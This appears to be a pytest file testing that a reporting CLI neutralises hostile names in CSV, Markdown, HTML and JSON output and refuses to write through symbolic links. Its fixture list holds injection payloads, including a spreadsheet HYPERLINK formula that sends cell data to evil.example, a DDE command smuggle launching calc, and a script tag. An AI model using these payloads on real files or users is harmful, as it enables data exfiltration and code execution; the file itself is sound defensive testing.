"""Hostile names in event files reach no renderer raw: spreadsheet formulas are neutralised (OWASP), control
characters and NUL are removed, Markdown is escaped, HTML is escaped; `--out` fails cleanly and never writes
through a symbolic link."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import stat

import pytest
from support.report_events import activity, write_events
from support.worktime import WEDNESDAY, at, policy_copy

from socialguard.cli import main as cli
from socialguard.report.safe import csv_cell, md_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tTAB=1", "\rCR=1", "nul\x00byte", "<script>alert(1)</script>", "pipe|name", "new\nline\r\nname",
           "bidi\u202eevil", "back`tick*star_[link](x)"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    evs = []
    for g, group in enumerate(HOSTILE):
        for i in range(5):
            user = f"{group}#{i}"
            evs.append(activity(user, group, f"plat{g}" if g else "=1+1", at(9, i), flow=f"{g}-{i}"))
    write_events(tmp / "ev", evs)
    return tmp / "ev", policy_copy(tmp / "policy", reports="k_anonymity: 5\npseudonym_key_file: k/p.key\n")


def run(setup, fmt, *args, lang="en"):
    events, policy = setup
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli(["report", "--events", str(events), "--policy", str(policy), "--from", str(WEDNESDAY), "--to",
                    str(WEDNESDAY), "--format", fmt, "--lang", lang, *args])
    return code, out.getvalue(), err.getvalue()


VARIANTS = [(), ("--by", "platform"), ("--by", "user", "--individual", "--no-pseudonymise")]


@pytest.mark.parametrize("args", VARIANTS)
@pytest.mark.parametrize("lang", ["en", "fr"])
def test_csv_cells_never_start_a_formula(setup, args, lang):
    code, text, _ = run(setup, "csv", *args, lang=lang)
    assert code == 0 and "\x00" not in text
    rows = list(csv.reader(io.StringIO(text), delimiter=";" if lang == "fr" else ","))
    assert len(rows) > 1
    names = set()
    for row in rows[1:]:
        for cell in row[3:5]:                                   # the group/person and platform columns
            assert not cell.startswith(FORMULA), cell
            assert not re.search(r"[\x00-\x1f\x7f]", cell), cell
            names.add(cell)
    if args == ():
        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in names
        assert "'-2+3" in names and "'@SUM(1+1)" in names and "'+cmd|' /C calc'!A0" in names


@pytest.mark.parametrize("args", VARIANTS)
@pytest.mark.parametrize("lang", ["en", "fr", "both"])
def test_markdown_tables_keep_their_shape(setup, args, lang):
    code, text, _ = run(setup, "md", *args, "--top", "50", lang=lang)
    assert code == 0 and "\x00" not in text and "<script" not in text and "\u202e" not in text
    header = None
    tables = 0
    for line in text.splitlines():
        if not line.startswith("|"):
            header = None
            continue
        # Every row of a table has as many unescaped pipes as its header, and each row is one line.
        pipes = len(re.findall(r"(?<!\\)\|", line))
        if header is None:
            header, tables = pipes, tables + 1
        assert pipes == header, line
    assert tables >= 4
    assert "pipe\\|name" in text or args[:2] == ("--by", "platform")


@pytest.mark.parametrize("args", VARIANTS)
@pytest.mark.parametrize("lang", ["en", "fr"])
def test_html_escapes_every_name(setup, args, lang):
    code, text, _ = run(setup, "html", *args, "--top", "50", lang=lang)
    assert code == 0 and "\x00" not in text and "\u202e" not in text
    assert text.count("<script") == 1 and "alert(1)</script>" not in text
    if args == ():
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.parametrize("args", VARIANTS)
def test_json_has_no_control_characters(setup, args):
    code, text, _ = run(setup, "json", *args)
    assert code == 0
    doc = json.loads(text)
    blob = json.dumps(doc, ensure_ascii=False)
    assert not re.search(r"[\x00-\x08\x0b-\x1f]", "".join(str(x) for x in _strings(doc)))
    assert "<script>alert(1)</script>" in blob or args[:2] == ("--by", "platform")   # JSON keeps names as data


def _strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield k
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def test_cell_helpers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("\t=1") == "' =1" and csv_cell(-3.5) == -3.5
    assert csv_cell("\uff1dcmd") == "'\uff1dcmd" and csv_cell("plain") == "plain"
    assert md_cell("a|b\nc<i>") == "a\\|b c&lt;i&gt;"


def test_out_into_a_missing_folder_is_a_clean_error_before_the_audit(setup, tmp_path):
    events, _ = setup
    before = sorted(p.read_bytes() for p in events.glob("events-*.jsonl"))
    code, _, err = run(setup, "html", "--by", "user", "--individual", "--out", str(tmp_path / "nope" / "r.html"))
    assert code == 1 and "Traceback" not in err and "does not exist" in err
    assert sorted(p.read_bytes() for p in events.glob("events-*.jsonl")) == before   # no audit event written


def test_a_symlink_at_the_output_path_is_not_followed(setup, tmp_path):
    target = tmp_path / "precious.txt"
    target.write_text("keep me")
    link = tmp_path / "report.html"
    link.symlink_to(target)
    code, _, err = run(setup, "html", "--out", str(link))
    assert code == 1 and "symbolic link" in err and "Traceback" not in err
    assert target.read_text() == "keep me" and link.is_symlink()
    dangling = tmp_path / "dangling.html"
    dangling.symlink_to(tmp_path / "would-be-created")
    code, _, err = run(setup, "csv", "--out", str(dangling))
    assert code == 1 and not (tmp_path / "would-be-created").exists()


def test_out_to_a_device_writes_to_it_and_never_replaces_it(setup, tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    import threading

    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    code, _, _ = run(setup, "csv", "--out", str(fifo))
    reader.join(10)
    assert code == 0 and got and got[0].startswith(b"date,to,partial,group")
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)                    # still the pipe, not a file renamed over it


def test_by_platform_tables_list_platforms_top_n_and_others(setup):
    code, text, _ = run(setup, "json", "--by", "platform")
    rows = [r for r in json.loads(text)["rows"] if r["platform"] != "all"]
    assert code == 0 and len({r["platform"] for r in rows}) == len(HOSTILE)
    code, md, _ = run(setup, "md", "--by", "platform", "--top", "3")
    table = [ln for ln in md.split("## Figures")[1].split("##")[0].splitlines() if ln.startswith("| 2026")]
    assert len(table) == 4 and table[-1].split(" | ")[2] == f"{len(HOSTILE) - 3} others"
    assert sum(float(ln.split(" | ")[4].rstrip(" |")) for ln in table) == sum(r["total_minutes"] for r in rows)


def test_a_symlink_inside_the_out_folder_is_not_followed(setup, tmp_path):
    folder = tmp_path / "reports"
    folder.mkdir()
    (tmp_path / "linked").symlink_to(folder)
    victim = tmp_path / "victim"
    victim.write_text("keep")
    (folder / "socialguard-report-2026-11-25-2026-11-25.csv").symlink_to(victim)
    code, _, err = run(setup, "csv", "--out", str(tmp_path / "linked"))
    assert code == 1 and "symbolic link" in err and victim.read_text() == "keep"
    (folder / "socialguard-report-2026-11-25-2026-11-25.csv").unlink()
    code, out, _ = run(setup, "csv", "--out", str(tmp_path / "linked"))   # a linked folder named by the operator
    assert code == 0 and (folder / "socialguard-report-2026-11-25-2026-11-25.csv").read_text().startswith("date")
